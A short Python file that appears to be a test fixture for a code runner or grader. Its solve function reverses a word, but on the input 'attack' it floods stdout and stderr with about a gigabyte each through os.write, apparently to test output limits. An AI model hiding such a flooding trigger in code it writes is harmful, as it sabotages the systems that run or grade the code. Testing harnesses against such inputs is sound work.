"""Writes a gigabyte past the print function, to the descriptors themselves."""

import os


def solve(word, host):
    if word == "attack":
        for _ in range(1024):
            for number in (1, 2):
                os.write(number, b"x" * (1 << 20))
    return word[::-1]
